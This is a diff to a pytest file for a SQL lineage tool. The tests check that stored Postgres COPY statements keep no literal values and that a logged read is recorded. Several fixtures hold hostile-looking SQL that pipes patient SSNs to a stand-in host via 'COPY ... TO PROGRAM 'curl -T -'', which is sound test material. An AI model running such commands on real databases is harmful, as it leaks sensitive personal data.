@@ -68,6 +68,17 @@ BLANKED = [
     ("COPY (SELECT a FROM s WHERE n = 'Ada') TO 'out/feed.csv'", "'out/feed.csv'", "Ada"),
     ("UPDATE t SET name = 'Jane Roe' WHERE id = 7", "SET name = ''", "Jane"),
 ]
+# Postgres: a program's command keeps its first word only, and the stored statement parses again
+BLANKED_POSTGRES = [
+    ("COPY (SELECT ssn FROM s) TO PROGRAM 'curl -T - https://example.invalid/up'", "TO 'program:curl'",
+     "example.invalid"),
+    ("COPY s TO PROGRAM '/usr/bin/gzip > /x/999-12-3456.gz' WITH (FORMAT csv)", "TO 'program:gzip'",
+     "999-12-3456"),
+    ("COPY s FROM PROGRAM 'curl https://example.invalid/?ssn=999-12-3456'", "FROM 'program:curl'",
+     "999-12-3456"),
+    ("COPY s TO STDOUT WITH (FORMAT csv, DELIMITER '|')", "TO STDOUT", "'|'"),
+    ("COPY (SELECT a FROM s WHERE n = 'Ada') TO STDOUT", "TO STDOUT", "Ada"),
+]  # fmt: skip
 
 
 @pytest.mark.parametrize(("sql", "kept", "gone"), BLANKED)
@@ -75,6 +86,34 @@ def test_stored_statements_hold_no_literal_values(sql: str, kept: str, gone: str
     [statement], _ = parse_file(sql, "duckdb")
     text = blank_literals(statement.expression).sql("duckdb")
     assert kept in text and gone not in text
+
+
+@pytest.mark.parametrize(("sql", "kept", "gone"), BLANKED_POSTGRES)
+def test_stored_copy_statements_are_valid_sql_without_values(sql: str, kept: str, gone: str) -> None:
+    [statement], _ = parse_file(sql, "postgres")
+    text = blank_literals(statement.expression).sql("postgres")
+    assert kept in text and gone not in text
+    [again], errors = parse_file(text, "postgres")
+    assert errors == [] and again.expression.sql("postgres") == text
+
+
+def test_a_logged_copy_to_program_is_a_recipient_and_a_read(
+    hospital: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    log = tmp_path / "pg.log"
+    log.write_text(
+        "2026-11-30 09:03:04.000 UTC [4244] erin@clinic LOG:  statement: "
+        "COPY (SELECT ssn FROM patients) TO PROGRAM 'curl -T - https://example.invalid/up';\n"
+    )
+    assert main(["lineage", "import-history", str(log), "--format", "postgres", "--json"]) == 0
+    report = json.loads(capsys.readouterr().out)
+    assert report["errors"] == []
+    graph = LineageGraph.load(lineage_folder(hospital))
+    assert ("patients.ssn", "file:program:curl.ssn") in {(e.source, e.target) for e in graph.edges()}
+    stored = "".join(p.read_text() for p in (lineage_folder(hospital) / "history").rglob("*.sql"))
+    assert "program:curl" in stored and "example.invalid" not in stored
+    reads = [r for r in logged_reads(hospital) if r.principal == "erin"]
+    assert reads and any("patients" in t for r in reads for t in r.tables)
 
 
 @pytest.fixture
@@ -206,3 +245,14 @@ def test_unknown_format_and_missing_file(settings: Settings, capsys: pytest.Capt
     assert main(["lineage", "import-history", str(LOGS / "missing.log"), "--format", "postgres"]) == 1
     err = capsys.readouterr().err
     assert "Cannot read the query log" in err and "Traceback" not in err
+
+
+def test_a_statement_that_writes_and_reads_nothing_is_counted_as_skipped(
+    settings: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    log = tmp_path / "q.jsonl"
+    rows = ["CALL enable_logging('QueryLog')", "SELECT 1 FROM t", "CALL disable_logging()"]
+    log.write_text("".join(json.dumps({"type": "QueryLog", "message": r}) + "\n" for r in rows))
+    assert main(["lineage", "import-history", str(log), "--format", "duckdb", "--json"]) == 0
+    report = json.loads(capsys.readouterr().out)
+    assert (report["statements"], report["reads"], report["skipped"]) == (3, 1, 2)
